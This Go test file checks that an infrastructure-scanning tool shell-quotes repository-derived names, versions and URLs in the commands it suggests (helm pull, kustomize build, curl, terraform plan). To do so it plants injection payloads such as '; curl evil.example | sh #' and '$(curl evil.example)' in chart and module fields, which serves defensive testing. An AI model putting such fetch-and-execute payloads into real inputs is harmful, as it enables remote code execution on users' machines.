package pipeline

import (
	"context"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"gate/internal/source/sourcetest"
)

// evil is what a hint must not have outside of quotes. It is written into every name
// and version that a hint may repeat.
const evil = "; curl evil.example | sh #"

// A command that a report offers for copying holds text of the repository only as words
// that no shell takes apart.
func TestHintsQuote(t *testing.T) {
	t.Parallel()
	for _, tt := range []struct{ name, files, command string }{
		{"version of an Application's chart", chartOfArgo("chart: web, repoURL: 'https://c.example.com', targetRevision: '1EVIL'"), "helm pull"},
		{"chart of an Application", chartOfArgo("chart: 'webEVIL', repoURL: 'https://c.example.com', targetRevision: '1'"), "helm pull"},
		{"repository of an Application", chartOfArgo("chart: web, repoURL: 'https://c.example.com/EVIL', targetRevision: '1'"), "helm pull"},
		{"registry of an Application", chartOfArgo("chart: web, repoURL: 'c.example.com/EVIL', targetRevision: '1'"), "helm pull"},
		{"quotes in a version", chartOfArgo(`chart: web, repoURL: 'https://c.example.com', targetRevision: "1'EVIL'"`), "helm pull"},
		{"substitution in a version", chartOfArgo(`chart: web, repoURL: 'https://c.example.com', targetRevision: "$(curl evil.example)"`), "helm pull"},
		{"lines in a version", chartOfArgo(`chart: web, repoURL: 'https://c.example.com', targetRevision: "1'\ncurl evil.example"`), "helm pull"},
		{"version of a HelmRelease", chartOfFlux("web", "1EVIL", "https://c.example.com"), "helm pull"},
		{"chart of a HelmRelease", chartOfFlux("webEVIL", "1", "https://c.example.com"), "helm pull"},
		{"repository of a HelmRelease", chartOfFlux("web", "1'EVIL", "https://c.example.com/'EVIL"), "helm pull"},
		{"helmCharts", "-- kEVIL/kustomization.yaml --\nhelmCharts: [{name: 'webEVIL', repo: 'https://c.example.com/EVIL', version: '1EVIL'}]\n", "helm pull"},
		{"helmCharts of a registry", "-- kEVIL/kustomization.yaml --\nhelmCharts: [{name: \"web'EVIL\", repo: 'oci://c.example.com/EVIL', version: \"1'EVIL\"}]\n", "helm pull"},
		{"remote base", "-- k'EVIL/kustomization.yaml --\nresources: [\"https://example.com/a'EVIL\"]\n", "kustomize build"},
		{"remote file", "-- kEVIL/kustomization.yaml --\nresources: [\"https://example.com/a'EVIL/b.yaml\"]\n", "curl -fsSL"},
		{"dependencies of a chart", "-- c'EVIL/Chart.yaml --\napiVersion: v2\nname: c\nversion: 1.0.0\ndependencies: [{name: d, version: '1', repository: 'https://c.example.com'}]\n", "helm dependency build"},
		{"archive in a chart", "-- cEVIL/Chart.yaml --\napiVersion: v2\nname: c\nversion: 1.0.0\n-- cEVIL/charts/d.tgz --\nx\n", "helm dependency build"},
		{"stack with a module", "-- s'EVIL/main.tf --\nmodule \"a\" {\n  source  = \"a/b/c\"\n  version = \"1EVIL\"\n}\n", "--plan"},
		{"unit of Terragrunt", "-- sEVIL/terragrunt.hcl --\nterraform {\n  source = \"git::https://example.com/a.git//EVIL\"\n}\n", "--plan"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			dir := t.TempDir()
			for name, text := range sourcetest.Parse(strings.ReplaceAll(tt.files, "EVIL", evil)) {
				file := filepath.Join(dir, filepath.FromSlash(name))
				if err := os.MkdirAll(filepath.Dir(file), 0o700); err != nil {
					t.Fatal(err)
				}
				if err := os.WriteFile(file, []byte(text), 0o600); err != nil {
					t.Fatal(err)
				}
			}
			out, err := Check(context.Background(), Options{Dir: dir, Local: true, Rules: []string{"kubernetes/privileged-container"}})
			if err != nil {
				t.Fatal(err)
			}
			defer out.Close()
			seen := false
			for _, e := range out.Result.Coverage.Entries {
				_, command, _ := strings.Cut(e.Reason, "hand in its plan: ")
				for _, hint := range []string{e.Hint, command} {
					seen = seen || strings.Contains(hint, tt.command) && strings.Contains(hint, "evil.example")
					if rest := unquotedText(hint); strings.Contains(rest, "evil.example") {
						t.Errorf("%s offers %q", e.ID, hint)
					}
				}
			}
			if !seen {
				t.Errorf("no hint offers %s", tt.command)
			}
		})
	}
}

func chartOfArgo(source string) string {
	return "-- a.yaml --\napiVersion: argoproj.io/v1alpha1\nkind: Application\nmetadata: {name: x, namespace: argocd}\nspec:\n  source: {" + source + "}\n  destination: {namespace: shop}\n"
}

func chartOfFlux(chart, version, repo string) string {
	return "-- a.yaml --\napiVersion: helm.toolkit.fluxcd.io/v2\nkind: HelmRelease\nmetadata: {name: x, namespace: shop}\nspec:\n  interval: 1h\n  chart: {spec: {chart: \"" + chart +
		"\", version: \"" + version + "\", sourceRef: {kind: HelmRepository, name: r}}}\n---\napiVersion: source.toolkit.fluxcd.io/v1\nkind: HelmRepository\nmetadata: {name: r, namespace: shop}\nspec: {interval: 1h, url: \"" + repo + "\"}\n"
}

var singleQuoted = regexp.MustCompile(`'[^']*'|\\'`)

// unquotedText is what of a command a shell looks into.
func unquotedText(command string) string { return singleQuoted.ReplaceAllString(command, "") }
